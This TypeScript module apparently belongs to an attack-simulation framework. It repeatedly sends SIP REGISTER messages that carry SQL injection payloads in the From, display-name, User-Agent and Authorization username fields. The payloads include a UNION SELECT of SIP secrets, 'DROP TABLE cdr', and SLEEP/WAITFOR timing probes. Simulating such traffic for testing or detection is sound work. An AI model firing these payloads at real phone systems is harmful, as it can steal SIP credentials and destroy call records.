import { hostOf, type Attempt, type Origin, type Scene, type Step, type Target } from '../actor.ts'
import { origins } from '../origins.ts'
import type { Random } from '../random.ts'
import { message } from '../tools/message.ts'

/** SQL where call records and user tables are written from: From, User-Agent, and the user name of Authorization. */
export function* injection({ targets, random }: Scene): Generator<Step, never> {
  for (;;) {
    const origin = { address: random.pick(origins.injection), port: random.between(5060, 5999) }
    const place = random.pick(places)
    yield { wait: random.between(900, 2200), attempt: inject(random, random.pick(targets), origin, place) }
  }
}

/** What differs from an ordinary REGISTER. */
interface Place {
  readonly display?: string
  readonly user?: string
  readonly userAgent?: string
  readonly username?: string
}

const places: readonly [Place, ...Place[]] = [
  { user: "100'or'1'='1" },
  { user: "a'or'3=3--" },
  { display: "' OR 1=1--" },
  { display: "1' UNION ALL SELECT NULL,secret,NULL FROM sip_buddies-- " },
  { userAgent: "x'; DROP TABLE cdr; --" },
  { userAgent: "Asterisk' AND SLEEP(5) AND 'a'='a" },
  { userAgent: "'); WAITFOR DELAY '0:0:5'--" },
  { username: "admin'--" },
  { username: "101' OR '1'='1" },
]

function inject(random: Random, target: Target, origin: Origin, place: Place): Attempt {
  const host = hostOf(target, origin)
  const display = place.display === undefined ? '' : `"${place.display}" `
  const bytes = message([
    `REGISTER sip:${host} SIP/2.0`,
    `Via: SIP/2.0/UDP ${origin.address}:${origin.port};branch=z9hG4bK-${random.hex(12)};rport`,
    'Max-Forwards: 70',
    `From: ${display}<sip:${place.user ?? '100'}@${host}>;tag=${random.hex(8)}`,
    `To: <sip:100@${host}>`,
    `Call-ID: ${random.hex(20)}@${origin.address}`,
    'CSeq: 1 REGISTER',
    `Contact: <sip:100@${origin.address}:${origin.port}>`,
    `User-Agent: ${place.userAgent ?? 'Asterisk PBX'}`,
    ...(place.username === undefined ? [] : [`Authorization: ${stale(random, place.username, host)}`]),
    'Content-Length: 0',
  ])
  return { target, origin, transport: 'udp', bytes }
}

/** Never saw a nonce of ours: the text is meant for the database, not for the registrar. */
const stale = (random: Random, username: string, host: string): string =>
  `Digest username="${username}", realm="asterisk", nonce="${random.hex(8)}", uri="sip:${host}", response="${random.hex(32)}"`
